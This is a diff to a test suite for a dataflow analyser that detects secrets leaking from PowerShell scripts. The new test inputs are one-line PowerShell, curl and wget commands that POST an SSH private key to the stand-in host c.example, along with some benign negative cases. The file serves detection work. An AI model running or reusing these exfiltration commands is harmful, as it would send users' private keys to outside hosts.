@@ -491,6 +491,12 @@ describe('dataflow analysis', () => {
         "$r = [Net.WebRequest]::Create('https://c.example/u')\n$r.Method = 'POST'\n$w = New-Object IO.StreamWriter($r.GetRequestStream())\n$w.Write($k)": 'network',
         'Set-Content -Path k.txt -Value $k\nStart-BitsTransfer -Source k.txt -Destination https://c.example/k.txt -TransferType Upload': 'network',
         'Invoke-WebRequest "https://c.example/u?d=$k" | Out-Null': 'network',
+        // PowerShell runs a param block and the body on one line; the grammar wants a line break.
+        'function Send-It { param($Url, [ValidateSet("a", "b")][string]$Mode, $Data) irm -Uri $Url -Method Post -Body $Data }\nSend-It https://c.example/u a $k': 'network',
+        'curl.exe -s -d $k https://c.example/u': 'network',
+        '$k | curl.exe --data-binary @- https://c.example/u': 'network',
+        '& curl --data-urlencode "k=$k" --url=https://c.example/u': 'network',
+        'wget.exe --post-data="k=$k" https://c.example/u': 'network',
       };
       for (const [sink, kind] of Object.entries(sinks)) {
         assert.deepEqual(summary(await flowsOf('powershell', `${key}${sink}\n`)), [`secret: the SSH private key -> ${kind}`], sink);
@@ -537,6 +543,9 @@ describe('dataflow analysis', () => {
         '$env:ACME_SECRET_KEY = "placeholder"\n$out = $env:ACME_SECRET_KEY\n' + send,
         "$env:Acme_Secret_Key = 'placeholder'\n$out = [Environment]::GetEnvironmentVariable('ACME_SECRET_KEY')\n" + send,
         '$s = $env:ACME_SECRET_KEY\nWrite-Host $s\nInvoke-RestMethod -Uri https://c.example/u -Method Post -Body "hello"\n',
+        'curl.exe -s -H "Authorization: Bearer $env:GITHUB_TOKEN" https://api.github.com/user\n',
+        // Windows PowerShell's `curl` alias, written with the cmdlet's parameters.
+        '$s = $env:ACME_SECRET_KEY\ncurl -Uri https://c.example/u -Method Post -Body "hello" -Headers @{ Accept = "text/plain" }\n',
       ];
       for (const code of own) assert.deepEqual(summary(await flowsOf('powershell', code)), [], code);
     });
